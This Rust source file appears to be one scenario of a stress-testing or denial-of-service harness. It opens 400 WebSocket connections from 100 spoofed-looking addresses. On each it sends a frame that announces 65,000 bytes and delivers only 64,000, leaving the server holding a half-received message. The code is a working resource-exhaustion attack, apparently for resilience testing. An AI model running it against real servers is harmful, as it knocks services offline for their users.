//! WebSocket frames of 64 kB without their last bytes.

use std::io;

use tokio::task::JoinSet;

use super::scenario::{Scenario, Sent};
use crate::figure::Value;
use crate::peer::Link;

/// Connections, and their addresses.
const PEERS: usize = 400;
const ADDRESSES: usize = 100;
/// The announced length of the message, and the bytes of it that are sent.
const ANNOUNCED: u64 = 65_000;
const PART: usize = 64_000;

pub(super) async fn send(scenario: &Scenario) -> io::Result<Sent> {
    let mut sending = JoinSet::new();
    for index in 0..PEERS {
        sending.spawn(half(scenario.target, scenario.attack.address(index % ADDRESSES)));
    }
    let mut sent = Sent::default();
    while let Some(link) = sending.join_next().await {
        // A refused connection holds nothing.
        if let Ok(link) = link? {
            sent.held.push(Box::new(link));
        }
    }
    sent.figures.push(("connections tried", Value::count(PEERS as u64)));
    sent.figures.push(("half-sent frames of 64 kB", Value::count(sent.held.len() as u64)));
    Ok(sent)
}

async fn half(target: crate::peer::Target, from: std::net::IpAddr) -> io::Result<Link> {
    let mut link = Link::open(crate::peer::Kind::Ws, from, target).await?;
    // RFC 6455 §5.2: a final binary frame, masked with zeros, its length in 64 bits.
    let mut frame = vec![0x82, 0x80 | 127];
    frame.extend(ANNOUNCED.to_be_bytes());
    frame.extend([0; 4]);
    frame.resize(frame.len() + PART, b'x');
    link.raw(&frame).await?;
    Ok(link)
}
